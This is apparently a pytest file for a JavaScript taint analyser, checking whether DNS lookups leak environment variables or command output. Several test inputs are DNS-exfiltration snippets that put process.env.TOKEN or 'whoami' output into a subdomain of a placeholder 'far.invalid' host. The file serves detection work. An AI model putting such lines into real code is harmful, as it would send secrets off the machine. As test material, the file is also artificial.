"""Looking up the machine's own proxy."""

import pytest

from pratique.analysis.facts import Taint
from tests.analysis.languages.javascript.reading import facts

ASKS = "const dns = require('dns'), url = require('url'), child = require('child_process');\n"
PROXY = """function proxy() {
  if (process.env.https_proxy) { return process.env.https_proxy }
  try {
    let told = child.execSync('npm config get https-proxy').toString().trim();
    return told !== 'null' ? told : undefined;
  } catch (e) { return; }
}
"""


def told(source: str) -> bool:
    private = {Taint.ENVIRONMENT, Taint.PROCESS}
    return any(flow.api == "dns.lookup" and private & set(flow.taints) for flow in facts(ASKS + source).flows)


@pytest.mark.parametrize(
    "source",
    [
        PROXY + "dns.lookup(url.parse(proxy()).hostname, done)",
        PROXY + "let p; if (p = proxy()) dns.lookup(url.parse(p).hostname, done)",
        PROXY + "const at = new URL(proxy()); dns.lookup(at.hostname, done)",
        "dns.lookup(new URL(process.env.HTTP_PROXY).host, done)",
    ],
)
def test_the_name_of_a_proxy_tells_nobody_anything(source: str) -> None:
    assert not told(source)


@pytest.mark.parametrize(
    "source",
    [
        "dns.lookup(url.parse('http://' + process.env.https_proxy + '.far.invalid').hostname, done)",
        "dns.lookup(new URL(`http://${process.env.TOKEN}.far.invalid`).hostname, done)",
        PROXY.replace("return process.env.https_proxy", "return `http://${process.env.TOKEN}.far.invalid`")
        + "dns.lookup(url.parse(proxy()).hostname, done)",
        PROXY.replace("npm config get https-proxy", "whoami")
        + "dns.lookup(url.parse(proxy()).hostname, done)",
        (
            "let p = process.env.https_proxy; p = 'http://' + process.env.TOKEN + '.far.invalid';"
            "dns.lookup(url.parse(p).hostname, done)"
        ),
    ],
)
def test_data_in_the_name_is_told(source: str) -> None:
    assert told(source)


def test_one_that_names_itself_ends() -> None:
    assert not told("let p = q, q = p; dns.lookup(url.parse(p).hostname, done)")
